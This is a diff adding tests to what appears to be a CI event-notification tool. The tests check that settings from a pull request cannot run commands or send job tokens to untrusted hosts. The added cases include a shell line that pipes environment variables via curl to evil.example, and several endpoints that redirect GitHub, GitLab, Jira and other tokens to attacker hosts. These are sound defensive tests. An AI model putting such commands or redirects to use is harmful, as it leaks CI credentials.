@@ -165,6 +165,58 @@ ASKS = {
     "destinations: {e: {kind: eventbridge, bus: b, endpoint: 'https://x.execute-api.eu-west-1.amazonaws.com'}}": (
         "destinations.e.endpoint"
     ),
+    # a pull request may neither start a program nor have tokens of the job sent elsewhere
+    "destinations: {command: {command: ./notify}}": "destinations.command.command",
+    "destinations: {own: {kind: command, command: [sh, -c, 'env | curl -d @- https://evil.example']}}": (
+        "destinations.own.command"
+    ),
+    "destinations: {github: {api: 'https://evil.example'}}": "destinations.github.api",
+    "destinations: {github: {api: 'http://api.github.com'}}": "destinations.github.api",
+    "destinations: {github: {ca_file: ca.pem}}": "destinations.github.ca_file",
+    "destinations: {g: {kind: github, token: '${GITHUB_TOKEN}', api: 'https://evil.example'}}": "destinations.g.api",
+    "destinations: {g: {kind: github, token: '${GITHUB_TOKEN}', api: 'https://github.com.evil.example'}}": (
+        "destinations.g.api"
+    ),
+    "destinations: {g: {kind: github, token_command: gh auth token}}": "destinations.g.token_command",
+    "destinations: {gitlab: {url: 'https://evil.example'}}": "destinations.gitlab.url",
+    "destinations: {gitlab: {api: 'https://evil.example/api/v4'}}": "destinations.gitlab.api",
+    "destinations: {g: {kind: gitlab, token: '${CI_JOB_TOKEN}', token_type: job, url: 'https://evil.example'}}": (
+        "destinations.g.url"
+    ),
+    "destinations: {servicenow: {url: 'https://evil.service-now.com'}}": "destinations.servicenow.url",
+    "destinations: {s: {kind: servicenow, user: u, password: '${T}', url: 'https://evil.example'}}": (
+        "destinations.s.url"
+    ),
+    "destinations: {s: {kind: servicenow, client_id: c, client_secret: '${T}', url: 'https://evil.example'}}": (
+        "destinations.s.url"
+    ),
+    "destinations: {s: {kind: servicenow, user: u, password_command: pass x}}": "destinations.s.password_command",
+    "destinations: {jira: {url: 'https://evil.atlassian.net'}}": "destinations.jira.url",
+    "destinations: {jira: {api: 'https://evil.example'}}": "destinations.jira.api",
+    "destinations: {j: {kind: jira, client_id: c, client_secret: '${T}', api: 'https://evil.example'}}": (
+        "destinations.j.api"
+    ),
+    "destinations: {j: {kind: jira, user: u, token: '${T}', url: 'https://evil.example'}}": "destinations.j.url",
+    "destinations: {j: {kind: jira, token_command: cat x}}": "destinations.j.token_command",
+    "destinations: {a: {kind: azuremonitor, resource: r, client_secret_command: az x}}": (
+        "destinations.a.client_secret_command"
+    ),
+    "destinations: {a: {kind: azuremonitor, resource: r, management_url: 'https://evil.example'}}": (
+        "destinations.a.management_url"
+    ),
+    "destinations: {a: {kind: azuremonitor, resource: r, imds_url: 'https://evil.example'}}": "destinations.a.imds_url",
+    "destinations: {a: {kind: azuremonitor, resource: r, imds_url: 'http://evil.example'}}": "destinations.a.imds_url",
+    "destinations: {azuremonitor: {login_url: 'https://evil.example'}}": "destinations.azuremonitor.login_url",
+    "destinations: {a: {kind: azuremonitor, resource: r, ca_file: ca.pem}}": "destinations.a.ca_file",
+    "destinations: {email: {host: evil.example}}": "destinations.email.host",
+    "destinations: {m: {kind: email, host: evil.example, password: '${T}'}}": "destinations.m.host",
+    "destinations: {m: {kind: email, host: '${HOST}', from: a@b.example}}": "destinations.m.host",
+    "destinations: {m: {kind: email, host: mail.example, security: none}}": "destinations.m.security",
+    "destinations: {m: {kind: email, host: mail.example, password_command: pass x}}": "destinations.m.password_command",
+    "destinations: {m: {kind: email, host: mail.example, to: ['${GITHUB_TOKEN}@evil.example']}}": "destinations.m.to",
+    "destinations: {d: {kind: discord, url: '${T}'}}": "destinations.d.url",
+    "destinations: {d: {kind: googlechat, url: '${T}'}}": "destinations.d.url",
+    "destinations: {d: {kind: mattermost, url: 'http://evil.example'}}": "destinations.d.url",
 }
 ENVIRON = {
     "TFEVENT_SEMATEXT_TOKEN": SECRET,
@@ -175,6 +227,13 @@ ENVIRON = {
     "MY_TOKEN": "t",
     "AWS_SECRET_ACCESS_KEY": "k",
     "GITHUB_TOKEN": "g",
+    "CI_JOB_TOKEN": "j",
+    "TFEVENT_GITHUB_TOKEN": "ghs_1",
+    "TFEVENT_GITLAB_TOKEN": "glpat-1",
+    "TFEVENT_SERVICENOW_PASSWORD": "p",
+    "TFEVENT_JIRA_TOKEN": "j",
+    "TFEVENT_AZUREMONITOR_CLIENT_SECRET": "s",
+    "TFEVENT_EMAIL_PASSWORD": "m",
 }
 
 
@@ -218,6 +277,9 @@ def test_the_users_own_settings_and_trusted_ones_wait_for_nothing(tree, tmp_path
         "destinations: {sematext: {token: '${SEMATEXT_TOKEN}', region: eu}}",
         "destinations: {sematext: {token: '${SEMATEXT_TOKEN}', receiver: 'https://event-receiver.eu.sematext.com'}}",
         "destinations: {slack: {token: '${SLACK}', channel: '#ops'}}",
+        "destinations: {github: {token: '${GITHUB_TOKEN}', publish: [comment, status]}}",
+        "destinations: {gitlab: {token: '${CI_JOB_TOKEN}', url: 'https://gitlab.com'}}",
+        "destinations: {m: {kind: email, host: mail.example, from: a@b.example, to: [ops@b.example]}}",
         "destinations: {w: {kind: webhook, url: 'https://hooks.example.com/x', headers: {a: b}}}",
         "destinations: {w: {kind: webhook, url: 'https://hooks.example.com/x', secret: s, tags: {a: '${BRANCH}'}}}",
         "environment: ${BRANCH}",
@@ -229,7 +291,17 @@ def test_the_users_own_settings_and_trusted_ones_wait_for_nothing(tree, tmp_path
 def test_what_teams_share_needs_no_consent(tree, text):
     write(tree / "templates", "{{ title }}", "title.j2")
     write(tree, f"{text}\n")
-    environ = {"SEMATEXT_TOKEN": SECRET, "SLACK": "xoxb-1", "BRANCH": "main"}
+    environ = {"SEMATEXT_TOKEN": SECRET, "SLACK": "xoxb-1", "BRANCH": "main", "GITHUB_TOKEN": "g", "CI_JOB_TOKEN": "j"}
+    assert load_leniently(tree, environ)[1] == ()
+
+
+def test_the_tree_does_not_switch_encryption_off_for_a_server_of_the_environments(tree):
+    """`security: none` is for a server on this machine, which the one that is used is not."""
+    write(tree, "destinations: {email: {host: localhost, security: none}}\n")
+    environ = {f"TFEVENT_EMAIL_{key}": f"{key.lower()}@mail.example" for key in ("FROM", "TO")}
+    settings, (told,) = load_leniently(tree, {**environ, "TFEVENT_EMAIL_HOST": "mail.example"})
+    assert "destinations.email.security (plain text)" in told
+    assert settings.destinations == ()
     assert load_leniently(tree, environ)[1] == ()
 
 
